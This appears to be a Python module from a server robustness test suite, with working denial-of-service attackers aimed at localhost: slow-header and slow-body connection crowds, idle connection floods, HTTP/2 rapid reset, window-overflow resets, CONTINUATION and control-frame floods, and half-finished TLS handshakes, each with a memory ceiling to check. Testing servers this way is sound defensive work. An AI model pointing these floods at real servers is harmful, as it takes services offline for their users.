"""The attackers. Each runs in a process of its own until it is told to stop, and tells what the server did to it."""

import collections
import select
import socket
import threading
import time

import wire


def address(target):
    return ("127.0.0.1", target["port"])


class Crowd:
    """Many connections that each send `opening` and then `drip` once a second. They are opened at 1,000 a second, and those
    that the server ends are opened again at 200 a second."""

    def __init__(self, target, count, opening, drip=b""):
        self.target, self.opening, self.drip = target, opening, drip
        self.epoll = select.epoll()
        self.open = {}
        self.said = collections.Counter()
        self.wanted = count
        self.connections = 0
        self.most_open = 0

    def connect(self):
        self.connections += 1
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(address(self.target))
        self.epoll.register(connection, select.EPOLLIN | select.EPOLLOUT | select.EPOLLRDHUP)
        self.open[connection.fileno()] = connection

    def lose(self, descriptor, why):
        self.said[why] += 1
        self.open.pop(descriptor).close()

    def handle(self, descriptor, events):
        connection = self.open[descriptor]
        try:
            if events & select.EPOLLOUT:
                connection.send(self.opening)
                self.epoll.modify(connection, select.EPOLLIN | select.EPOLLRDHUP)
            if events & (select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                data = connection.recv(65536)
                if data.startswith(b"HTTP/1.1 "):
                    self.lose(descriptor, "answered " + data[9:12].decode())
                elif not data:
                    self.lose(descriptor, "closed")
        except BlockingIOError:
            pass
        except OSError:
            self.lose(descriptor, "reset")

    def run(self, stop):
        next_open = time.monotonic()
        next_drip = next_open + 1
        while not stop.is_set():
            while len(self.open) < self.wanted and next_open <= time.monotonic():
                next_open += 1 / (1000 if self.connections < self.wanted else 200)
                self.connect()
            if len(self.open) == self.wanted:
                next_open = time.monotonic()
            for descriptor, events in self.epoll.poll(0.01):
                if descriptor in self.open:
                    self.handle(descriptor, events)
            self.most_open = max(self.most_open, len(self.open))
            if self.drip and time.monotonic() >= next_drip:
                next_drip += 1
                for descriptor, connection in list(self.open.items()):
                    try:
                        connection.send(self.drip)
                    except BlockingIOError:
                        pass
                    except OSError:
                        self.lose(descriptor, "reset")
        return {"connections": self.connections, "at_once": self.most_open, "server": dict(self.said)}


class Flooder(threading.Thread):
    """One connection after the other that sends what `make_flood` makes as fast as it is taken."""

    def __init__(self, target, make_flood, stop):
        super().__init__(daemon=True)
        self.target, self.make_flood, self.stop = target, make_flood, stop
        self.said = collections.Counter()
        self.connections = self.frames = 0

    def run(self):
        while not self.stop.is_set():
            try:
                self.connections += 1
                with socket.create_connection(address(self.target), timeout=5) as connection:
                    self.flood(connection)
            except OSError:
                pass

    def flood(self, connection):
        connection.sendall(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0))
        connection.settimeout(1)
        frames = wire.Frames()
        flood = self.make_flood()
        pending = b""
        end = "reset"
        try:
            while not self.stop.is_set():
                readable, writable, _ = select.select([connection], [connection], [], 1)
                if readable:
                    data = connection.recv(65536)
                    if not data:
                        end = "closed"
                        break
                    for kind, _, _, payload in frames.feed(data):
                        if kind == wire.GOAWAY:
                            code = int.from_bytes(payload[4:8], "big")
                            self.said["GOAWAY " + wire.ERRORS.get(code, str(code))] += 1
                if writable:
                    pending = pending or next(flood)
                    pending = pending[connection.send(pending):]
            else:
                return
        except OSError:
            pass
        self.said[end] += 1


def flood(make_flood, connections=4):
    def run(target, stop):
        flooders = [Flooder(target, make_flood, stop) for _ in range(connections)]
        for flooder in flooders:
            flooder.start()
        for flooder in flooders:
            flooder.join()
        said = sum((flooder.said for flooder in flooders), collections.Counter())
        return {"connections": sum(flooder.connections for flooder in flooders), "server": dict(said)}
    return run


def crowd(count, opening, drip=b""):
    return lambda target, stop: Crowd(target, count, opening, drip).run(stop)


def streams(provoke):
    """Requests, each followed by what `provoke` sends about its stream."""
    def make():
        request = wire.head(b"POST", b"/v1alpha1/inference/capacityclaims")
        stream = 1
        while stream < 2 ** 31 - 200:
            batch = bytearray()
            for _ in range(100):
                batch += wire.frame(wire.HEADERS, wire.END_HEADERS, stream, request) + provoke(stream)
                stream += 2
            yield bytes(batch)
    return make


def repeated(opening, unit):
    def make():
        yield opening
        many = unit * (16384 // len(unit))
        while True:
            yield many
    return make


OPEN_STREAM = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, wire.head(b"POST", b"/v1alpha1/inference/capacityclaims"))


def mixed():
    unit = (wire.frame(wire.PING, 0, 0, b"abcdefgh") + wire.frame(wire.SETTINGS, 0, 0) + wire.frame(wire.DATA, 0, 1))
    return repeated(OPEN_STREAM, unit)()


HELLO = wire.client_hello()
SLOW_HEAD = b"GET /v1alpha1/inference/capacityclaims HTTP/1.1\r\nHost: abuse.test\r\nX-Slow: "
# With a token: a stranger's body is not waited for.
SLOW_BODY = (b"POST /v1alpha1/inference/capacityclaims HTTP/1.1\r\nHost: abuse.test\r\nAuthorization: Bearer bench-token\r\n"
             b"Content-Length: 1000000\r\n\r\n{")

# name: (what it is, seconds, how much more memory the server may hold at its worst in MiB, how it runs)
ATTACKS = {
    "slow heads": ("2,000 connections, one byte of a head a second", 25, 64, crowd(2000, SLOW_HEAD, b"x")),
    "slow bodies": ("2,000 connections, one byte of a body a second", 75, 64, crowd(2000, SLOW_BODY, b"x")),
    "silence": ("10,000 connections that say nothing", 15, 128, crowd(10000, b"")),
    "rapid reset": ("4 connections, each request reset at once", 10, 64,
                    flood(streams(lambda stream: wire.frame(wire.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))))),
    "provoked resets": ("4 connections, each request's window overflowed", 10, 64,
                        flood(streams(lambda stream: wire.frame(wire.WINDOW_UPDATE, 0, stream, (2 ** 31 - 1).to_bytes(4, "big"))))),
    "CONTINUATION": ("4 connections, a head without end", 10, 64,
                     flood(repeated(wire.frame(wire.HEADERS, 0, 1, b"\x82"), wire.frame(wire.CONTINUATION, 0, 1, b"\x82\x86\x84")))),
    "control frames": ("4 connections, PING, SETTINGS and empty DATA in turn", 10, 64, flood(mixed)),
    "half a ClientHello": ("10,000 connections that stop within a ClientHello", 25, 256, crowd(10000, HELLO[:len(HELLO) // 2])),
    "half a handshake": ("10,000 connections that stop after a ClientHello", 25, 256, crowd(10000, HELLO)),
}
NEED_TLS = {"half a ClientHello", "half a handshake"}


def run(name, target, stop, report):
    """The main function of an attack's process."""
    report.put(ATTACKS[name][3](target, stop))
